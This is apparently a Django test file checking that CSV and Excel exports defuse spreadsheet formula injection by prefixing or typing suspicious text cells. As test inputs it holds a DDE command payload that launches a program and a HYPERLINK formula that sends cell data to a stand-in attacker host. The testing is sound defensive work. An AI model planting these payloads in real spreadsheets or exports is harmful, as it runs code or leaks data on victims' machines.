"""Exported text is shown by a spreadsheet, never run (issue 15, reproduction 5).

Excel, LibreOffice and Google Sheets read a cell that begins with "=", "+", "-", "@", a tab or a
carriage return as a formula; a title or a comment typed by one person then runs on the machine
of whoever opens the export. CSV has no cell types, so such text gets a leading apostrophe;
XLSX has them, so text is written as a string cell. Numbers and dates are left as they are.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assignments import exports
from assignments.models import Assignment, User
from tests.factories import AssignmentFactory
from workflow.services import change_milestone_status

pytestmark = pytest.mark.django_db

LEADS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = "cmd|' /C calc'!A0"


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def _person(username: str) -> User:
    return User.objects.get(username=username)


# -- the helpers -------------------------------------------------------------------------------


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_csv_prefixes_text_that_starts_like_a_formula(lead):
    response = exports.csv_response("x", ["Text"], [[lead + PAYLOAD]])
    assert _csv_rows(response)[1] == ["'" + lead + PAYLOAD]


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_csv_prefixes_a_formula_after_a_comma(lead):
    """A spreadsheet that splits the line on commas (not on our semicolons) makes a cell of
    each part: none of them may start a formula (issue 27, reproduction 5)."""
    response = exports.csv_response("x", ["Text"], [[f"Info,{lead}2+5, ok, {lead}{PAYLOAD}"]])
    (cell,) = _csv_rows(response)[1]
    for part in cell.split(","):
        assert not part.lstrip(" ").startswith(tuple(LEADS)), cell
    assert cell == f"Info,'{lead}2+5, ok,' {lead}{PAYLOAD}"


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_xlsx_writes_text_that_starts_like_a_formula_as_a_string_cell(lead):
    response = exports.xlsx_response("x", "Blad", ["Text"], [[lead + PAYLOAD]])
    cell = _sheet(response)["A2"]
    # openpyxl writes through lxml (python-docx needs it), which keeps a carriage return
    assert (cell.data_type, cell.value) == ("s", lead + PAYLOAD)
    # Excel keeps it text even when someone edits the cell and presses Enter
    assert cell.quotePrefix


def test_numbers_and_dates_are_not_text_and_keep_their_sign():
    row = [-12, Decimal("-3.50"), -0.5, dt.date(2025, 8, 12), "Vanlig text", "", None]
    rows = _csv_rows(exports.csv_response("x", list("ABCDEFG"), [row]))
    assert rows[1] == ["-12", "-3.50", "-0.5", "2025-08-12", "Vanlig text", "", ""]

    sheet = _sheet(exports.xlsx_response("x", "Blad", list("ABCDEFG"), [row]))
    cells = list(sheet.iter_rows(min_row=2, values_only=False))[0]
    assert [c.value for c in cells[:3]] == [-12, -3.5, -0.5]
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]
    assert cells[3].is_date and cells[3].value.date() == dt.date(2025, 8, 12)
    assert (cells[4].data_type, cells[4].value, cells[4].quotePrefix) == ("s", "Vanlig text", False)


def test_csv_starts_with_a_byte_order_mark_and_is_an_attachment():
    response = exports.csv_response("granskningslogg-1", ["Å"], [["ö"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="granskningslogg-1.csv"'
    body = b"".join(response) if response.streaming else response.content
    assert body.startswith("\ufeff".encode())


# -- reproduction 5 over HTTP ------------------------------------------------------------------


def test_a_formula_in_a_milestone_comment_is_text_in_the_audit_csv(client, demo):
    milestone = demo.milestones.get(kind="compilation")
    change_milestone_status(
        milestone=milestone, actor=_person("jan.strang"), to_status="done", comment="=" + PAYLOAD
    )
    client.force_login(_person("anders.kullbratt"))
    rows = _csv_rows(client.get(reverse("workflow:audit_csv", args=[demo.pk])))
    reasons = [row[6] for row in rows[1:]]
    assert "'=" + PAYLOAD in reasons
    assert "=" + PAYLOAD not in reasons


def test_a_title_starting_with_equals_is_text_in_the_portfolio_csv_and_excel(client, demo):
    title = '=HYPERLINK("http://angripare.example/?"&A2,"Klicka här")'
    AssignmentFactory(title=title, state=Assignment.State.ADOPTED)
    client.force_login(_person("registrator"))
    url = reverse("portfolio")

    rows = _csv_rows(client.get(url, {"state": "adopted", "format": "csv"}))
    titles = [row[1] for row in rows[1:]]
    assert "'" + title in titles and title not in titles

    sheet = _sheet(client.get(url, {"state": "adopted", "format": "xlsx"}))
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    cell = next(c for c in cells if c.value == title)
    assert cell.data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
